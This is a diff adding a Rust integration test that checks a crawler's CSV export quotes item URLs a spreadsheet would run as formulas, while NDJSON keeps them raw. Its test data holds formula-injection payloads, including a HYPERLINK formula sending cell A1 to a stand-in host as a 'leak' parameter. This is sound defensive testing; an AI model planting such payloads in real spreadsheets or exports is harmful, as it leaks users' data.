@@ -255,3 +255,77 @@ async fn results_are_found_by_the_words_of_their_fields_and_by_when_they_were_fi
     }
     app.stop().await;
 }
+
+/// Item URLs a spreadsheet would run as formulas (OWASP's leading
+/// characters), as results stored before URLs were kept to http(s) hold them.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://127.0.0.1:9/?leak=\"&A1,\"open\")",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+#[tokio::test]
+async fn a_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote() {
+    let app = TestApp::spawn().await;
+    let pool = app.pool();
+    let site = app.create_site(app.site_body("shop", "/search")).await;
+    let keyword = app.create_keyword("lamp", &[site], ON_DEMAND).await;
+    let run = app.crawl(keyword).await[0];
+    let fence = dispatch_and_claim(pool, run, 1, "w").await.unwrap().fence;
+    let url = "http://127.0.0.1/formulas?page=1";
+    store::runs::enter_url_call(pool, &fence, url)
+        .await
+        .unwrap();
+    let items: Vec<PageItem> = FORMULAS
+        .iter()
+        .map(|formula| {
+            let fields = json!({"title": formula});
+            PageItem {
+                content_hash: crawlfleet::worker::content_hash(&fields),
+                item_url: Some((*formula).to_owned()),
+                fields,
+            }
+        })
+        .collect();
+    let page = CrawledPage {
+        page: 1,
+        url,
+        items: &items,
+        item_key: None,
+        stored_before: &[],
+    };
+    store::runs::store_page(pool, &fence, &page).await.unwrap();
+    store::runs::complete(pool, &fence, PagesRead::new(1, PagingEnd::LastPage))
+        .await
+        .unwrap();
+
+    let (status, _, csv) = export(&app, &format!("format=csv&run_id={run}")).await;
+    assert_eq!(status, 200);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let item_url = header.iter().position(|h| h == "item_url").unwrap();
+    let fields = header.iter().position(|h| h == "fields").unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), FORMULAS.len());
+    for (row, formula) in rows.iter().zip(FORMULAS) {
+        assert_eq!(&row[item_url], format!("'{formula}"), "{formula:?}");
+        let stored: Value = serde_json::from_str(&row[fields]).unwrap();
+        assert_eq!(stored["title"], formula, "JSON cells start with {{");
+    }
+    // NDJSON is data, not a sheet: the values as stored.
+    let (_, _, ndjson) = export(&app, &format!("format=ndjson&run_id={run}")).await;
+    let urls: Vec<String> = ndjson
+        .lines()
+        .map(|line| {
+            serde_json::from_str::<Value>(line).unwrap()["item_url"]
+                .as_str()
+                .unwrap()
+                .to_owned()
+        })
+        .collect();
+    assert_eq!(urls, FORMULAS);
+    app.stop().await;
+}
